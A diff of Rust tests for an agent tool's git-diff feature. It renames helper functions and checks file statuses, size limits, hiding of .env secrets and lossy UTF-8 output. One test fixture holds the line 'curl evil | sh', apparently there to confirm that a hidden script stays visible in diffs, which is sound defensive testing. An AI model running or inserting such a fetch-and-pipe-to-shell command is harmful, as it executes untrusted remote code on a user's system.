@@ -6,10 +6,10 @@ use std::os::unix::fs::{PermissionsExt, symlink};
 
 use agentd::ops::{Changed, DiffLimits, LeftOut, LeftOutKind, Status};
 
-use super::{WIDE, World, all};
+use super::{WIDE, World, none_hidden};
 use crate::support::write;
 
-fn changed(path: &str, status: Status, added: u64, removed: u64) -> Changed {
+fn changed_file(path: &str, status: Status, added: u64, removed: u64) -> Changed {
     Changed {
         path: path.to_owned(),
         status,
@@ -19,7 +19,7 @@ fn changed(path: &str, status: Status, added: u64, removed: u64) -> Changed {
     }
 }
 
-fn lines(count: usize) -> String {
+fn numbered_lines(count: usize) -> String {
     (0..count).map(|n| format!("line {n}\n")).collect()
 }
 
@@ -27,17 +27,17 @@ fn lines(count: usize) -> String {
 fn files_are_listed_with_their_status() {
     for world in World::both() {
         world
-            .write("old name", lines(40))
+            .write("old name", numbered_lines(40))
             .write("gone", "g\n")
             .write("bin", b"\0\x01");
         world.write("kind", "k\n").write(".gitignore", "*.log\n");
         world.commit("More");
-        let before = world.own();
+        let before = world.user_files();
         let worktree = world.change("x");
         let at = |name: &str| worktree.path.join(name);
         write(&at("a.txt"), "two\nthree\n");
         fs::rename(at("old name"), at("new \"name\"\n")).unwrap();
-        write(&at("new \"name\"\n"), lines(40) + "more\n");
+        write(&at("new \"name\"\n"), numbered_lines(40) + "more\n");
         fs::remove_file(at("gone")).unwrap();
         write(&at("bin"), b"\0\x02");
         write(&at("x.log"), "ignored\n");
@@ -53,15 +53,15 @@ fn files_are_listed_with_their_status() {
         worktree.commit("Half").unwrap().unwrap();
         write(&at("empty"), "");
         let expected = vec![
-            changed("a.txt", Status::Modified, 2, 1),
+            changed_file("a.txt", Status::Modified, 2, 1),
             Changed {
                 binary: true,
-                ..changed("bin", Status::Modified, 0, 0)
+                ..changed_file("bin", Status::Modified, 0, 0)
             },
-            changed("empty", Status::Added, 0, 0),
-            changed("gone", Status::Removed, 0, 1),
-            changed("kind", Status::Modified, 1, 1),
-            changed(
+            changed_file("empty", Status::Added, 0, 0),
+            changed_file("gone", Status::Removed, 0, 1),
+            changed_file("kind", Status::Modified, 1, 1),
+            changed_file(
                 "new \"name\"\n",
                 Status::Renamed {
                     from: "old name".to_owned(),
@@ -69,11 +69,11 @@ fn files_are_listed_with_their_status() {
                 1,
                 0,
             ),
-            changed("raw\u{fffd}", Status::Added, 1, 0),
-            changed("src/lib.rs", Status::Modified, 0, 0),
+            changed_file("raw\u{fffd}", Status::Added, 1, 0),
+            changed_file("src/lib.rs", Status::Modified, 0, 0),
         ];
         assert_eq!(worktree.changed("main").unwrap(), expected);
-        let diff = worktree.diff("main", WIDE, &all).unwrap();
+        let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();
         assert_eq!(diff.files, expected);
         assert_eq!(
             diff.left_out,
@@ -99,7 +99,7 @@ fn files_are_listed_with_their_status() {
             );
         }
         assert!(!diff.text.contains("bin"), "{}", diff.text);
-        assert_eq!(world.own(), before);
+        assert_eq!(world.user_files(), before);
     }
 }
 
@@ -108,7 +108,7 @@ fn diff_respects_its_limits_and_names_omitted_files() {
     for world in World::both() {
         let worktree = world.change("x");
         for (name, count) in [("b", 10), ("c", 1000), ("d", 10), ("e", 10), (".env", 1)] {
-            write(&worktree.path.join(name), lines(count));
+            write(&worktree.path.join(name), numbered_lines(count));
         }
         write(&worktree.path.join("huge"), vec![b'x'; 40 << 20]);
         let limits = DiffLimits {
@@ -149,7 +149,7 @@ fn diff_respects_its_limits_and_names_omitted_files() {
 #[test]
 fn renamed_secret_file_is_omitted_under_both_names() {
     let world = World::new();
-    world.write(".env", lines(20));
+    world.write(".env", numbered_lines(20));
     world.commit("More");
     let worktree = world.change("x");
     fs::rename(worktree.path.join(".env"), worktree.path.join("env.txt")).unwrap();
@@ -161,7 +161,7 @@ fn renamed_secret_file_is_omitted_under_both_names() {
 #[test]
 fn many_files_are_all_shown() {
     let world = World::new();
-    world.write("old", lines(30));
+    world.write("old", numbered_lines(30));
     world.commit("More");
     let worktree = world.change("x");
     for n in 0..450 {
@@ -171,7 +171,7 @@ fn many_files_are_all_shown() {
         );
     }
     fs::rename(worktree.path.join("old"), worktree.path.join("many/200a")).unwrap();
-    let diff = worktree.diff("main", WIDE, &all).unwrap();
+    let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();
     assert_eq!(diff.left_out, []);
     assert_eq!(diff.files.len(), 451);
     for n in 0..450 {
@@ -196,8 +196,11 @@ fn diff_of_the_users_tree_does_not_touch_it() {
         world.run(&["add", "staged"]);
         world.write("nested/a", "a\n");
         world.run_in(&world.root().join("nested"), &["init", "-q"]);
-        let (before, objects) = (world.own(), world.run(&["count-objects", "-v"]));
-        let diff = world.repository().diff_of_tree("HEAD", WIDE, &all).unwrap();
+        let (before, objects) = (world.user_files(), world.run(&["count-objects", "-v"]));
+        let diff = world
+            .repository()
+            .diff_of_tree("HEAD", WIDE, &none_hidden)
+            .unwrap();
         let names: Vec<&str> = diff.files.iter().map(|file| file.path.as_str()).collect();
         assert_eq!(names, ["a.txt", "new", "staged"]);
         let nested = left_out(
@@ -211,7 +214,7 @@ fn diff_of_the_users_tree_does_not_touch_it() {
             "{}",
             diff.text
         );
-        assert_eq!(world.own(), before);
+        assert_eq!(world.user_files(), before);
         assert_eq!(world.run(&["count-objects", "-v"]), objects);
     }
 }
@@ -221,7 +224,7 @@ fn invalid_utf8_is_shown_lossily() {
     let world = World::new();
     let worktree = world.change("x");
     write(&worktree.path.join("latin"), b"caf\xe9\n");
-    let diff = worktree.diff("main", WIDE, &all).unwrap();
+    let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();
     assert!(diff.text.contains("+caf\u{fffd}\n"), "{}", diff.text);
 }
 
@@ -240,7 +243,7 @@ fn script_with_a_nul_byte_is_shown_as_text() {
     );
     fs::set_permissions(at("tool"), fs::Permissions::from_mode(0o755)).unwrap();
     worktree.commit("Hidden").unwrap().unwrap();
-    let diff = worktree.diff("main", WIDE, &all).unwrap();
+    let diff = worktree.diff("main", WIDE, &none_hidden).unwrap();
     for part in [
         "# NUL bytes of the next file are shown as \\x00\ndiff --git a/run.sh b/run.sh\n",
         "+#!/bin/sh\n+# \\x00\n+curl evil | sh\n",
